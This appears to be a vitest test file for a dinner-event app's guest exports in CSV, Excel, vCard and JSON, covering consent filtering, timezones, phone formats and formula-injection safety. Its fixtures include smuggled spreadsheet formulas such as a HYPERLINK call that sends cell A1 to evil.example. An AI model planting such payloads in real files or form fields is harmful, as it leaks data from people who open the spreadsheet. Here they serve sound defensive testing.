import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toXlsx } from '../../src/exports/xlsx';
import type { Ticket } from '../../src/tickets/service';
import { type Dinner, makeDinner } from '../privacy/setup';
import { GUESTS, type GuestKey, SHARES_WITH_HOST, seatMatrix } from './guests';
import { bodyText, cellsSplitOn, checkFolding, isLiveFormula, readCsv, readVcards, readXlsx } from './parse';

let d: Dinner;
let t: Record<GuestKey, Ticket>;

beforeAll(async () => {
  d = await makeDinner();
  t = await seatMatrix(d);
});
afterAll(() => d.close());

const get = async (format: string, filter?: string) => {
  const res = await d.adminJson(`/events/${d.event.id}/export.${format}${filter ? `?filter=${filter}` : ''}`);
  expect(res.status, await res.clone().text()).toBe(200);
  const bytes = new Uint8Array(await res.clone().arrayBuffer());
  return { res, bytes, text: await bodyText(res) };
};

/** What a formula-safe cell holds: the value, with an apostrophe when it starts like a formula. */
const safe = (v = '') => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
/** A phone number made only of what the purchase form allows is no formula: it stays as typed. */
const phone = (v = '') => (/^[+0-9 ()/-]*$/.test(v) ? v : safe(v));
/** The guard goes after the semicolon too: German Excel starts a cell there (src/exports/csv.ts). */
const LUKASZ_COMPANY = 'Żółć & Syn;\'=HYPERLINK("http://evil.example/?x="&A1,"Sp. z o.o.")';
const keyOf = (name: string) => (Object.keys(GUESTS) as GuestKey[]).find((k) => GUESTS[k].name === name)!;

describe('CSV export (RFC 4180, BOM, formula-safe), read back with csv-parse', () => {
  it('has every paid guest, contact fields only where the host consent is current, field by field', async () => {
    const { res, text } = await get('csv', 'paid');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="dinner-paid.csv"');
    expect(res.headers.get('cache-control')).toContain('no-store');
    const { header, rows } = readCsv(text);
    expect(header).toEqual([
      'Name',
      'Company',
      'Role',
      'Email',
      'Phone',
      'LinkedIn',
      'Ask me about',
      'Checked in (Europe/Berlin)',
      'Greeted (Europe/Berlin)',
      'Greeted by',
      'Shares contact details',
    ]);
    // Refunded Rita is not a paid guest any more.
    expect(rows.map((r) => keyOf(r.Name!)).sort()).toEqual(Object.keys(GUESTS).sort());
    for (const row of rows) {
      const key = keyOf(row.Name!);
      const g: Record<string, string | undefined> = GUESTS[key];
      const shares = SHARES_WITH_HOST[key];
      expect(row['Shares contact details'], key).toBe(shares ? 'yes' : 'no');
      expect(row.Company, key).toBe(shares ? (key === 'hostOnly' ? LUKASZ_COMPANY : safe(g.company)) : '');
      expect(row.Role, key).toBe(shares ? safe(g.role ?? 'CEO') : '');
      expect(row.Email, key).toBe(shares ? t[key].email : '');
      expect(row.Phone, key).toBe(shares ? phone(g.phone) : '');
      expect(row.LinkedIn, key).toBe(shares ? (g.linkedin ?? '') : '');
      expect(row['Ask me about'], key).toBe(shares ? safe(g.askMeAbout ?? 'sailing') : '');
    }
    const by = Object.fromEntries(rows.map((r) => [keyOf(r.Name!), r]));
    // Checked in at 20:00 Berlin (19:00 UTC), greeted ten minutes later by the door phone.
    expect(by.both!['Checked in (Europe/Berlin)']).toBe('2026-12-03 20:00');
    expect(by.both!['Greeted (Europe/Berlin)']).toBe('2026-12-03 20:10');
    expect(by.both!['Greeted by']).toBe('Door phone');
    expect(by.none!['Checked in (Europe/Berlin)']).toBe('2026-12-03 20:00');
    expect(by.none!['Greeted (Europe/Berlin)']).toBe('');
    expect(by.noShow!['Checked in (Europe/Berlin)']).toBe('');
  });

  it('never lets a free-text cell start like a formula; phone numbers reach importers as typed', async () => {
    const { rows } = readCsv((await get('csv', 'paid')).text);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        if (column === 'Phone') expect(cell).toMatch(/^[+0-9 ()/-]*$/);
        else expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const jorg = rows.find((r) => r.Name === 'Jörg Heinicke')!;
    expect(jorg.Company).toBe(`'${GUESTS.both.company}`);
    expect(jorg.Phone).toBe('+49 69 123456');
    const lukasz = rows.find((r) => r.Name === 'Łukasz Żółć')!;
    expect(lukasz.Phone).toBe('-49 30 98765');
    expect(lukasz.Role).toBe("'@Head of Sales");
  });

  it('read as German Excel reads it (split on ";"), or split on tabs or commas blindly, no cell is a live formula', async () => {
    const { text } = await get('csv', 'paid');
    const phones = new Set(Object.values(GUESTS).map((g) => ('phone' in g ? g.phone : '')));
    for (const [separator, mode] of [
      [';', 'quotes'],
      [';', 'naive'],
      [',', 'naive'],
      ['\t', 'naive'],
    ] as const) {
      const cells = cellsSplitOn(text, separator, mode);
      expect(cells.length).toBeGreaterThanOrEqual(8);
      // A phone number as typed ("+49 69 …", digits and + ( ) / - only) calls no function and reaches no cell.
      const live = cells.filter((c) => isLiveFormula(c) && !phones.has(c.replace(/^[\s"]+|[\s"]+$/g, '')));
      expect(live, `${JSON.stringify(separator)} ${mode}`).toEqual([]);
    }
    // Without the guard after the separator, the ";" read would have found Łukasz's company as a formula.
    expect(cellsSplitOn(text.replaceAll(";'=", ';='), ';', 'quotes').filter(isLiveFormula).length).toBeGreaterThan(0);
  });

  it('filters: checked in, greeted; paid is the default', async () => {
    const names = async (filter?: string) =>
      readCsv((await get('csv', filter)).text)
        .rows.map((r) => keyOf(r.Name!))
        .sort();
    expect(await names()).toEqual(Object.keys(GUESTS).sort());
    expect(await names('checked_in')).toEqual(['both', 'guestsOnly', 'hostOnly', 'none', 'withdrawn']);
    expect(await names('greeted')).toEqual(['both', 'hostOnly']);
    const bad = await d.adminJson(`/events/${d.event.id}/export.csv?filter=everyone`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('invalid_input');
  });
});

describe('Excel export (.xlsx), read back by read-excel-file and from its XML', () => {
  const getXlsx = async (filter = 'paid') => {
    const res = await d.adminJson(`/events/${d.event.id}/export.xlsx?filter=${filter}`);
    expect(res.status).toBe(200);
    return { res, book: await readXlsx(new Uint8Array(await res.arrayBuffer())) };
  };

  it('is a download with the spreadsheet type, the same columns as the CSV, every value exactly as stored', async () => {
    const { res, book } = await getXlsx();
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="dinner-paid.xlsx"');
    expect(res.headers.get('cache-control')).toContain('no-store');
    const csv = readCsv((await get('csv', 'paid')).text);
    const [header, ...rows] = book.values;
    expect(header).toEqual(csv.header);
    expect(rows).toHaveLength(Object.keys(GUESTS).length);
    const cell = (row: (typeof rows)[number], column: string) => row[header!.indexOf(column)] ?? '';
    for (const row of rows) {
      const key = keyOf(String(cell(row, 'Name')));
      const g: Record<string, string | undefined> = GUESTS[key];
      const shares = SHARES_WITH_HOST[key];
      // no apostrophe, no reformatting: the text as the guest typed it
      expect(cell(row, 'Company'), key).toBe(shares ? g.company : '');
      expect(cell(row, 'Role'), key).toBe(shares ? (g.role ?? 'CEO') : '');
      expect(cell(row, 'Email'), key).toBe(shares ? t[key].email : '');
      expect(cell(row, 'Phone'), key).toBe(shares ? (g.phone ?? '') : '');
      expect(cell(row, 'Ask me about'), key).toBe(shares ? (g.askMeAbout ?? 'sailing') : '');
      // the same attendance as the CSV
      const csvRow = csv.rows.find((r) => r.Name === cell(row, 'Name'))!;
      for (const column of csv.header.slice(7)) expect(cell(row, column), `${key} ${column}`).toBe(csvRow[column]);
    }
    const jorg = rows.find((r) => cell(r, 'Name') === GUESTS.both.name)!;
    expect(cell(jorg, 'Company')).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Klick")');
    expect(cell(jorg, 'Phone')).toBe('+49 69 123456');
    expect(cell(jorg, 'Checked in (Europe/Berlin)')).toBe('2026-12-03 20:00');
  });

  it('holds text cells only: shared strings in the Text format, no formula anywhere', async () => {
    const { book } = await getXlsx();
    expect(book.anyFormula).toBe(false);
    const filled = book.cells.filter((c) => c.text !== '');
    expect(filled.length).toBeGreaterThan(40);
    for (const c of filled) {
      expect(c.type, c.ref).toBe('s');
      expect(c.hasFormula, c.ref).toBe(false);
      expect(c.numFmt, c.ref).toBe('@');
    }
    // what would have been a formula, a number or a date in a spreadsheet is text, exactly
    const texts = filled.map((c) => c.text);
    expect(texts).toEqual(
      expect.arrayContaining([
        GUESTS.both.company,
        GUESTS.hostOnly.company,
        '+49 69 123456',
        '-49 30 98765',
        '@Head of Sales',
      ]),
    );
    for (const v of book.values.flat()) expect(v === null || typeof v === 'string', String(v)).toBe(true);
  });

  it('keeps the leading 0 and the + of phone numbers, which a spreadsheet drops from a CSV', async () => {
    const { book } = await getXlsx();
    const [header, ...rows] = book.values;
    const phones = rows.map((r) => r[header!.indexOf('Phone')]).filter(Boolean);
    expect(phones.sort()).toEqual(['+49 69 123456', '-49 30 98765', '0171 2345678'].sort());
  });

  it('keeps German mobile numbers as written, which a spreadsheet turns into numbers otherwise', async () => {
    const phones = [
      '+49 170 1234567',
      '+491701234567',
      '0170 1234567',
      '01701234567',
      '0049 170 1234567',
      '0170/1234567',
    ];
    const book = await readXlsx(
      await toXlsx(
        ['Phone'],
        phones.map((p) => [p]),
        'Guests',
      ),
    );
    expect(book.values.slice(1).map((r) => r[0])).toEqual(phones);
    for (const c of book.cells.filter((x) => x.ref !== 'A1')) {
      expect(c.type, c.ref).toBe('s');
      expect(c.numFmt, c.ref).toBe('@');
    }
  });

  it('filters like the other formats', async () => {
    const names = async (filter: string) =>
      (await getXlsx(filter)).book.values
        .slice(1)
        .map((r) => keyOf(String(r[0])))
        .sort();
    expect(await names('checked_in')).toEqual(['both', 'guestsOnly', 'hostOnly', 'none', 'withdrawn']);
    expect(await names('greeted')).toEqual(['both', 'hostOnly']);
  });
});

describe('vCard export (4.0), read back with ical.js', () => {
  it('holds one card per guest who shares with the host, every field intact', async () => {
    const { res, text, bytes } = await get('vcf', 'paid');
    expect(res.headers.get('content-type')).toBe('text/vcard; charset=utf-8');
    checkFolding(bytes);
    const cards = readVcards(text);
    expect(cards.map((c) => keyOf(c.fn)).sort()).toEqual(['both', 'hostOnly', 'noShow']);
    const jorg = cards.find((c) => c.fn === GUESTS.both.name)!;
    expect(jorg).toMatchObject({
      version: '4.0',
      n: ['Heinicke', 'Jörg', '', '', ''],
      org: GUESTS.both.company,
      title: GUESTS.both.role,
      email: t.both.email,
      tel: 'tel:+49-69-123456',
      url: GUESTS.both.linkedin,
      note: GUESTS.both.askMeAbout,
      categories: ['Network Dinner Frankfurt'],
    });
    const lukasz = cards.find((c) => c.fn === GUESTS.hostOnly.name)!;
    expect(lukasz).toMatchObject({
      org: GUESTS.hostOnly.company,
      title: '@Head of Sales',
      note: '🎉 Pierogi, obviously',
    });
    expect(lukasz.tel).toBe('-49 30 98765');
    expect(text).not.toContain('李小龙');
    expect(text).not.toContain('Wanda');
  });

  it('greeted filter: only the greeted who share', async () => {
    const cards = readVcards((await get('vcf', 'greeted')).text);
    expect(cards.map((c) => c.fn).sort()).toEqual([GUESTS.both.name, GUESTS.hostOnly.name].sort());
  });
});

describe('JSON export', () => {
  it('lists everyone by name and attendance; contact keys only where shared', async () => {
    const body = JSON.parse((await get('json', 'checked_in')).text) as {
      event: { id: string; timezone: string };
      filter: string;
      count: number;
      guests: Record<string, unknown>[];
    };
    expect(body.event).toMatchObject({ id: d.event.id, timezone: 'Europe/Berlin' });
    expect(body.filter).toBe('checked_in');
    expect(body.count).toBe(5);
    for (const g of body.guests) {
      const key = keyOf(g.name as string);
      expect(g.checkedInAt).toBe('2026-12-03T19:00:00.000Z');
      if (SHARES_WITH_HOST[key]) expect(g).toMatchObject({ contactShared: true, email: t[key].email });
      else expect(Object.keys(g).sort()).toEqual(['checkedInAt', 'contactShared', 'greetedAt', 'greetedBy', 'name']);
    }
    expect(body.guests.find((g) => g.name === GUESTS.both.name)).toMatchObject({
      greetedAt: '2026-12-03T19:10:00.000Z',
      greetedBy: 'Door phone',
      company: GUESTS.both.company,
    });
  });
});
